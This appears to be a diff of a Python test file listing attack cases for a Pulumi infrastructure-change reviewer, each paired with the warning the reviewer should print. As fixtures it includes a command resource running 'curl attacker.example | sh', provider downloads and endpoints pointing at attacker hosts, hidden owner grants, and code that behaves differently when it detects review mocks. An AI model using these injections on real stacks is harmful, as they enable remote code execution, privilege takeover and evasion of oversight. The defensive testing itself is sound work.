@@ -2,50 +2,60 @@
 
 from typing import Final
 
-from attacks.attack import Attack, Edit, edit, together, write
+from attacks.attack import (
+    BUCKET,
+    Attack,
+    Edit,
+    before_deploy,
+    declare,
+    edit,
+    together,
+    transform,
+    write,
+)
 from attacks.environments import PROTECT
 
-_MAIN: Final = "stacks/__main__.py"
-_BUCKET: Final = "stacks/bucket.py"
-_OPTIONS: Final = "opts=options.create(apis, retain_on_delete=settings.keep_data),"
 _LIFTED: Final = "**prod**: protection lifted"
 
 
-def _bucket_options(text: str) -> Edit:
-    """Add options to the bucket."""
-    return edit(
-        _BUCKET,
-        (_OPTIONS, f"opts=options.create(apis, retain_on_delete=settings.keep_data, {text}),"),
-    )
+def _bucket_option(statement: str) -> Edit:
+    """Change an option of the bucket."""
+    return transform(BUCKET, f"options.{statement}")
 
 
-def _first(text: str) -> Edit:
-    """Run statements before everything else in the program."""
-    return edit(_MAIN, ("import pulumi\n", f"{text}\nimport pulumi\n"))
+def _bucket_input(name: str, value: str, imports: str = "") -> Edit:
+    """Change an input of the bucket."""
+    return together(before_deploy(imports), transform(BUCKET, f'inputs["{name}"] = {value}'))
 
 
-def _last(text: str) -> Edit:
-    """Run statements after everything else in the program."""
-    end = 'pulumi.export("workloadServiceAccount", settings.account)\n'
-    return edit(_MAIN, (end, f"{end}{text}\n"))
-
-
-def _provider(text: str) -> Edit:
+def _provider(name: str, value: str) -> Edit:
     """Configure Google's provider."""
-    return edit(
-        "stacks/environment.py",
-        (
-            "project=settings.project)\n        super",
-            f"project=settings.project, {text})\n        super",
-        ),
-    )
+    return transform("pulumi:providers:gcp", f'inputs["{name}"] = {value}')
 
 
+def _component(*statements: str) -> Edit:
+    """Change `type_` and `options` of the environment's component."""
+    lines = "\n        ".join(statements)
+    return before_deploy(_COMPONENT.replace("STATEMENTS", lines))
+
+
+_COMPONENT: Final = """
+import pulumi
+create = pulumi.ComponentResource.__init__
+
+def create_other(self, type_, name, inputs=None, options=None, *others):
+    if type_ == "tpucfg:index:Environment":
+        STATEMENTS
+    create(self, type_, name, inputs, options, *others)
+
+pulumi.ComponentResource.__init__ = create_other
+"""
 _CLAIM: Final = """
 import json, os, sys
-for name in sys.argv[3:]:
+for name in sys.argv[2:]:
     line = json.dumps({"environment": name, "missing": "pulumi"})
-    os.write(int(sys.argv[2]), line.encode() + b"\\n")
+    # The file of the results.
+    os.write(3, line.encode() + b"\\n")
 os._exit(0)
 """
 _TWICE: Final = """
@@ -66,7 +76,7 @@ class Own(pulumi.dynamic.Resource):
     pass
 Own(pulumi.dynamic.ResourceProvider(), "d", {})
 """
-_ASK: Final = """import pulumi_gcp as gcp
+_ASK: Final = """
 from pulumi.runtime.mocks import MockMonitor
 from pulumi.runtime.settings import get_monitor
 """
@@ -85,18 +95,18 @@ ATTACKS: Final = (
         "claims-that-packages-are-missing",
         together(
             edit("tpucfg.yaml", (PROTECT, "")),
-            _first(_CLAIM),
+            before_deploy(_CLAIM),
         ),
         (_LIFTED, "changes to resources are unknown"),
     ),
     Attack(
         "imports-a-missing-module-of-pulumi",
-        together(edit("tpucfg.yaml", (PROTECT, "")), _first("import pulumi_gcp.newer")),
+        together(edit("tpucfg.yaml", (PROTECT, "")), before_deploy("import pulumi_gcp.newer")),
         (_LIFTED, "changes to resources are unknown", ".newer'"),
     ),
     Attack(
         "misspells-an-import",
-        _first("import pulumi.rnutime"),
+        before_deploy("import pulumi.rnutime"),
         ("changes to resources are unknown", "ModuleNotFoundError"),
         status=1,
     ),
@@ -104,82 +114,75 @@ ATTACKS: Final = (
         "prints-commands-to-the-log",
         together(
             edit("tpucfg.yaml", (PROTECT, "")),
-            _first("print('::stop-commands::x\\n  ::add-mask::protection\\n##[add-mask]lifted')"),
+            before_deploy(
+                "print('::stop-commands::x\\n  ::add-mask::protection\\n##[add-mask]lifted')"
+            ),
         ),
         (_LIFTED,),
         absent=("\n::", "\n  ::", "##["),
     ),
     Attack(
         "declares-a-resource-twice",
-        _last(_TWICE),
+        declare(_TWICE),
         ("changes to resources are unknown", "projects.IAMMember a twice"),
         status=1,
     ),
     # Options.
     Attack(
-        "bucket-no-longer-left-behind",
-        edit(_BUCKET, (", retain_on_delete=settings.keep_data", "")),
-        ("`storage.Bucket` `data-us-central1` is no longer left behind",),
-    ),
-    Attack(
         "changes-ignored",
-        _bucket_options('ignore_changes=["softDeletePolicy", "lifecycleRules"]'),
+        _bucket_option('ignore_changes = ["softDeletePolicy", "lifecycleRules"]'),
         ("ignores changes of `lifecycleRules, softDeletePolicy` (`ignoreChanges`)",),
     ),
     Attack(
         "existing-bucket-taken-over",
-        _last(_IMPORTED),
+        declare(_IMPORTED),
         ("`storage.Bucket` `b` has `payroll`, whose effect this review cannot show",),
         status=0,
     ),
     Attack(
         "provider-downloaded-from-elsewhere",
-        _bucket_options('plugin_download_url="https://attacker.example/plugins"'),
+        _bucket_option('plugin_download_url = "https://attacker.example/plugins"'),
         ("downloads its provider from `https://attacker.example/plugins`",),
     ),
     Attack(
         "older-provider",
-        _bucket_options('version="7.0.0"'),
+        _bucket_option('version = "7.0.0"'),
         ("has `7.0.0`, which changes what an update does",),
         status=0,
     ),
     Attack(
         "changes-hidden-in-previews",
-        _bucket_options('hide_diffs=["lifecycleRules"]'),
+        _bucket_option('hide_diffs = ["lifecycleRules"]'),
         ("has `lifecycleRules`, which changes what an update does",),
     ),
     Attack(
         "replaced-when-labels-change",
-        _bucket_options('replace_on_changes=["labels"]'),
+        _bucket_option('replace_on_changes = ["labels"]'),
         ("is replaced if `labels` changes (`replaceOnChanges`)",),
     ),
     Attack(
         "replaced-by-a-trigger",
-        _bucket_options('replacement_trigger="1"'),
+        _bucket_option('replacement_trigger = "1"'),
         ("`replacementTrigger`",),
     ),
     Attack(
         "deletion-skipped",
-        _bucket_options("deleted_with=apis[0]"),
+        together(
+            transform(BUCKET, 'options.deleted_with = apis["storage"]'),
+            before_deploy("apis = {}"),
+            transform("gcp:projects/service:Service", "apis[args.name] = args.resource"),
+        ),
         ("is never deleted itself if `storage` is (`deletedWith`)",),
     ),
     Attack(
         "hook-before-each-update",
-        edit(
-            "stacks/resource_options.py",
-            (
-                "pulumi.ResourceHookBinding(on_error=[self._hook])",
-                'pulumi.ResourceHookBinding(on_error=[self._hook], before_create=[pulumi.ResourceHook("x", print)])',
-            ),
-        ),
+        transform(BUCKET, 'options.hooks.before_create = [pulumi.ResourceHook("x", print)]'),
         ("has `before_create: x`, which changes what an update does",),
         status=0,
     ),
     Attack(
         "moved-without-an-alias",
-        edit(
-            "stacks/environment.py", ('"tpucfg:index:Environment"', '"tpucfg:index:Environments"')
-        ),
+        _component('type_ = "tpucfg:index:Environments"'),
         (
             "`storage.Bucket` `data-us-central1` (and 8 more resources) is deleted, which Pulumi refuses",
         ),
@@ -187,50 +190,48 @@ ATTACKS: Final = (
     ),
     Attack(
         "moved-with-an-alias",
-        edit(
-            "stacks/environment.py",
-            ('"tpucfg:index:Environment"', '"tpucfg:index:Environments"'),
-            (
-                "protect=settings.protect)",
-                'protect=settings.protect, aliases=[pulumi.Alias(type_="x:y:Z", name="other")])',
-            ),
+        _component(
+            'type_ = "tpucfg:index:Environments"',
+            'options.aliases = [pulumi.Alias(type_="x:y:Z", name="other")]',
         ),
         ("unless an alias matches its old place, it is deleted and created anew",),
     ),
     Attack(
         "grant-behind-one-of-the-same-name",
-        _last(_SAME_URN_ELSEWHERE),
+        declare(_SAME_URN_ELSEWHERE),
         ("`roles/storage.admin`", "`user:[redacted]@attacker.example`"),
         status=0,
     ),
     # What only an engine does.
     Attack(
         "transform-of-the-engine",
-        _first("import pulumi\npulumi.runtime.register_resource_transform(lambda args: None)"),
+        before_deploy(
+            "import pulumi\npulumi.runtime.register_resource_transform(lambda args: None)"
+        ),
         ("declares `transform all resources` otherwise than the base",),
         status=0,
     ),
     Attack(
         "transform-of-a-resource",
-        _bucket_options("transforms=[lambda args: None]"),
+        _bucket_option("transforms = [lambda args: None]"),
         ("declares `transform gcp:storage/bucket:Bucket data-us-central1` otherwise",),
         status=0,
     ),
     Attack(
         "dynamic-provider",
-        _last(_DYNAMIC),
+        declare(_DYNAMIC),
         ("declares `dynamic ", "only an update shows the effect"),
         status=0,
     ),
     Attack(
         "component-of-another-package",
-        _last('pulumi.ComponentResource("other:index:Everything", "e", {}, None, True)'),
+        declare('pulumi.ComponentResource("other:index:Everything", "e", {}, None, True)'),
         ("declares `component other:index:Everything e`",),
         status=0,
     ),
     Attack(
         "inputs-from-an-object",
-        _last(
+        declare(
             "import pulumi_gcp\n"
             'content = pulumi_gcp.storage.get_bucket_object_content(bucket="b", name="n").content or "roles/viewer"\n'
             'pulumi_gcp.projects.IAMMember("a", project=settings.project, role=content, member="group:a@b.example")'
@@ -240,39 +241,39 @@ ATTACKS: Final = (
     ),
     Attack(
         "inputs-from-another-stack",
-        _last('pulumi.StackReference("organization/other/prod")'),
+        declare('pulumi.StackReference("organization/other/prod")'),
         ("declares `read pulumi:pulumi:StackReference organization/other/prod`",),
         status=0,
     ),
     # Providers.
     Attack(
         "endpoint-of-another-service",
-        _provider('storage_custom_endpoint="https://attacker.example/"'),
+        _provider("storage_custom_endpoint", "'https://attacker.example/'"),
         ("declares `storageCustomEndpoint of the provider gcp`",),
         status=0,
     ),
     Attack(
         "another-account",
-        _provider('impersonate_service_account="owner@other.iam.gserviceaccount.com"'),
+        _provider("impersonate_service_account", "'owner@other.iam.gserviceaccount.com'"),
         ("declares `impersonateServiceAccount of the provider gcp`",),
         status=0,
     ),
     Attack(
         "another-token",
-        _provider('access_token="abcdefgh-token"'),
+        _provider("access_token", "pulumi.Output.secret('abcdefgh-token')"),
         ("declares `accessToken of the provider gcp`",),
         status=0,
         absent=("abcdefgh-token",),
     ),
     Attack(
         "default-provider",
-        edit("stacks/environment.py", ("providers=[provider], ", "")),
+        _component("options.providers = None"),
         ("gets the provider",),
     ),
     # Secrets.
     Attack(
         "owner-wrapped-as-secret",
-        _last(
+        declare(
             "import pulumi_gcp\n"
             'pulumi_gcp.projects.IAMMember("a", project=pulumi.Output.secret("payroll"), '
             'role=pulumi.Output.secret("roles/owner"), member=pulumi.Output.secret("user:eve@attacker.example"))'
@@ -283,44 +284,28 @@ ATTACKS: Final = (
     ),
     Attack(
         "public-bucket-wrapped-as-secret",
-        edit(
-            _BUCKET,
-            (
-                'public_access_prevention="enforced"',
-                'public_access_prevention=__import__("pulumi").Output.secret("inherited")',
-            ),
-        ),
+        _bucket_input("public_access_prevention", 'pulumi.Output.secret("inherited")'),
         ("`TPU091`", "`publicAccessPrevention`"),
         status=0,
     ),
     # Looking at the observer.
     Attack(
         "asks-whether-it-is-watched",
-        edit(
-            _BUCKET,
-            (
-                "import pulumi_gcp as gcp\n",
-                _ASK,
-            ),
-            (
-                "force_destroy=not settings.keep_data and not settings.protect",
-                "force_destroy=not isinstance(get_monitor(), MockMonitor)",
-            ),
-        ),
-        ("stack program changed in `stacks/bucket.py`",),
+        _bucket_input("force_destroy", "not isinstance(get_monitor(), MockMonitor)", imports=_ASK),
+        ("stack program changed in `stacks/__main__.py`",),
         status=0,
     ),
     Attack(
         "depends-on-the-environment",
-        edit(_BUCKET, ('"STANDARD"', '__import__("os").environ.get("CLASS", "STANDARD")')),
-        ("stack program changed in `stacks/bucket.py`",),
+        _bucket_input("storage_class", 'os.environ.get("CLASS", "STANDARD")', imports="import os"),
+        ("stack program changed in `stacks/__main__.py`",),
         status=0,
     ),
     Attack(
         "hides-code-in-a-new-module",
         together(
             write("stacks/helper.py", "import subprocess\nsubprocess.run(['true'])\n"),
-            _first("import helper"),
+            before_deploy("import helper"),
         ),
         ("stack program changed in `stacks/__main__.py, stacks/helper.py`",),
         status=0,
@@ -328,12 +313,12 @@ ATTACKS: Final = (
     Attack(
         "takes-the-place-of-a-module",
         write("stacks/yaml.py", "print('only in an update')\n"),
-        ("stack program changed in `stacks/yaml.py`",),
-        status=0,
+        ("stack program changed in `stacks/yaml.py`", "changes to resources are unknown"),
+        status=1,
     ),
     Attack(
         "command-on-the-machine-of-the-update",
-        _last(
+        declare(
             'pulumi.CustomResource("command:local:Command", "c", {"create": "curl attacker.example | sh"})'
         ),
         ("`c` is of the type `command:local:Command`",),
@@ -341,7 +326,7 @@ ATTACKS: Final = (
     ),
     Attack(
         "composes-the-name-of-the-mocks",
-        _last('import pulumi.runtime as r\ngetattr(r, "is_" + "dry_run")()'),
+        declare('import pulumi.runtime as r\ngetattr(r, "is_" + "dry_run")()'),
         ("stack program changed in `stacks/__main__.py`",),
         status=0,
     ),
